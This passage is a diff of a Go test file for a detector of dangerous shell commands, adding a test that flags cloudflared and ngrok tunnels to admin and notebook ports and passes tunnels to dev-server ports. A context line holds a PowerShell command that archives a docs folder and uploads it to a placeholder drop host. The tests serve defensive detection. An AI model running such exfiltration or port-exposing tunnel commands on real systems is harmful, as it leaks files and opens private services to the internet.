@@ -62,3 +62,18 @@ func TestKeyFolderArchivedAndSent(t *testing.T) {
 		`Compress-Archive -Path docs\* -DestinationPath $env:TEMP\d.zip; Invoke-WebRequest -Uri https://drop.example.org/up -Method Put -InFile $env:TEMP\d.zip`,
 	})
 }
+
+// A tunnel to a development server's port is a demo; to an admin API's,
+// a notebook's or a database's port it hands that to the internet.
+func TestTunnelToAdminPort(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`cloudflared tunnel --url http://localhost:2019`, CategoryReverseShell, "win-tunnel", LevelHigh},
+		{`ngrok http 8888`, CategoryReverseShell, "win-tunnel", LevelHigh},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`cloudflared tunnel --url http://localhost:5173`,
+		`ngrok http 3000`,
+		`cloudflared tunnel list`,
+	})
+}
